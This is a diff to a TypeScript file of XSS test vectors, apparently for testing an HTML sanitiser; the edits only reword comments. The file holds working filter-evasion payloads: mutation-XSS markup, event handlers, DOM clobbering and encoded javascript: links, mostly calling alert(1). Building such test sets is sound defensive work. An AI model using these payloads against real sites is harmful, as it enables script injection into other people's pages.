@@ -1,6 +1,7 @@
 /**
- * Markup that runs a script: the kinds of the OWASP Filter Evasion Cheat Sheet, and mutations that two parsers interpret
- * differently. Each vector calls `alert(1)`. Vectors with a failing picture use `x` as its address.
+ * Markup that runs a script. It covers the kinds of the OWASP Filter Evasion Cheat Sheet, and markup that two parsers
+ * interpret differently (mutation XSS). Each vector calls `alert(1)`. Vectors that need a picture that fails to load use
+ * the address `x`.
  */
 export const xssVectors: Record<string, string> = {
   script: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
@@ -97,7 +98,7 @@ export const xssVectors: Record<string, string> = {
   'a tag without an end': '<p',
   'quotes that do not match': `<a href='https://club.example"onclick=alert(1)//'>x</a>`,
   'names that objects have': '<__proto__ constructor=x><p __proto__=x constructor=y>z</p>',
-  // Namespaces: text in one namespace is an element in another.
+  // Vectors with SVG and MathML: text inside one namespace is an element inside another.
   'MathML whose text may hold HTML':
     '<math><mi><svg><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></svg></mi></math>',
   'MathML annotation that is HTML':
@@ -120,7 +121,7 @@ export const xssVectors: Record<string, string> = {
   'a glyph in a table in MathML':
     '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
   'a font that breaks out': '<svg><font color=x><img src=x onerror=alert(1)></font></svg>',
-  // A second parser reads the serialisation of the first differently.
+  // Vectors that change when a browser parses the output of a first parser again.
   'a table that throws things out': '<table><a href="<img src=x onerror=alert(1)>"><tr><td><p></table>',
   'a select that swallows': '<select><style></select><img src=x onerror=alert(1)></style>',
   'an option that swallows': '<select><option><textarea></option></select><img src=x onerror=alert(1)>',
@@ -152,7 +153,7 @@ export const xssVectors: Record<string, string> = {
   'a comment of dashes': '<!--><!---><img src=x onerror=alert(1)>-->',
   'a bogus comment': '<?><img src=x onerror=alert(1)>?><//><img src=x onerror=alert(1)>',
   'CDATA in SVG': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
-  // Event handlers that run without a user.
+  // Vectors with event handlers that run without an action of the user.
   'a details that opens': '<details open ontoggle=alert(1)>x</details>',
   'a marquee that starts': '<marquee onstart=alert(1)>x</marquee>',
   'a field that takes the focus': '<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
@@ -177,10 +178,10 @@ export const xssVectors: Record<string, string> = {
     '<map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=/media/a-640.webp>',
   'an output of a form':
     '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)>',
-  // Overwrite names of the page's own script.
+  // Vectors that overwrite names which the page's own script uses (DOM clobbering).
   'clobbered names':
     '<form id=document name=location><input name=cookie><img name=currentScript id=ran></form><a id=window name=ran href=x>x</a>',
-  // Encodings.
+  // Vectors that encode parts of an address or of the markup.
   'javascript: over lines': '<a href="&#10;java&NewLine;script&Tab;&colon;alert(1)">x</a>',
   'javascript: after spaces that are none': '<a href="\u00a0\u2028javascript:alert(1)">x</a>',
   'javascript: with a soft hyphen': '<a href="java\u00adscript:alert(1)">x</a>',
